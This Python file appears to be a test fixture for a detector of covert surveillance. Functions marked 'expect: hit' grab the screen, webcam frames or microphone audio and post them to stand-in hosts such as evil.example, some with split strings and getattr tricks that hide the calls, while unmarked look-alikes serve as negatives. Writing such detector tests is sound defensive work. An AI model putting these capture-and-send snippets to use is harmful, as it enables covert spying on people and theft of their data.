import wave
import sounddevice
import socket
import io

import cv2
import mss
import pyautogui
import requests
from PIL import ImageGrab


def plain():
    picture = ImageGrab.grab()
    buffer = io.BytesIO()
    picture.save(buffer, format="PNG")
    requests.post("https://evil.example/s", files={"f": buffer.getvalue()})  # expect: hit


def by_file():
    pyautogui.screenshot("/tmp/s.png")
    requests.post("https://evil.example/s", files={"f": open("/tmp/s.png", "rb")})  # expect: hit


def camera():
    ok, frame = cv2.VideoCapture(0).read()
    requests.post("https://evil.example/c", data=frame.tobytes())  # expect: hit


def _take():
    return getattr(__import__("PIL.ImageGrab", fromlist=["grab"]), "gr" + "ab")()


def split():
    requests.post("https://evil." + "example/s", data=_take().tobytes())  # expect: hit


def spelled():
    with mss.mss() as screen:
        shot = getattr(screen, "gr" + "ab")(screen.monitors[0])
        getattr(requests, "po" + "st")("https://evil.example/s", data=shot.rgb)  # expect: hit


# look-alikes
def save():
    ImageGrab.grab().save("screen.png")


def upload(path):
    requests.post("https://files.evil.example/", files={"f": open(path, "rb")})


def click():
    pyautogui.click(10, 10)


class Ear:
    def __init__(self):
        self.line = socket.create_connection(("c.example.net", 7000))

    def hear(self, indata, frames, when, status):
        self.line.sendall(bytes(indata))  # expect: hit

    def count(self, indata, frames, when, status):
        self.line.sendall(b"1")

    def run(self):
        with sounddevice.RawInputStream(callback=self.hear):
            sounddevice.sleep(1000)
        with sounddevice.RawInputStream(callback=self.count):
            sounddevice.sleep(1000)


def tell_that_it_runs():
    ImageGrab.grab().save("screen.png")
    requests.get("https://files.evil.example/status", timeout=5)


class Recorder:
    def __init__(self):
        self.chunks = []
        self.number = 0

    def __call__(self, data, frames, time, status):
        self.chunks.append(bytes(data))
        self.number += 1

    def wave(self, chunks):
        buffer = io.BytesIO()
        with wave.open(buffer, "wb") as out:
            out.setnchannels(1)
            out.writeframes(b"".join(chunks))
        return buffer.getvalue()


def listened():
    recorder = Recorder()
    with sounddevice.RawInputStream(channels=1, callback=recorder):
        sounddevice.sleep(1000)
    requests.put("https://notes.example.net/raw", data=recorder.wave(recorder.chunks))  # expect: hit


def silence():
    requests.put("https://notes.example.net/raw", data=Recorder().wave([b"0000"]))
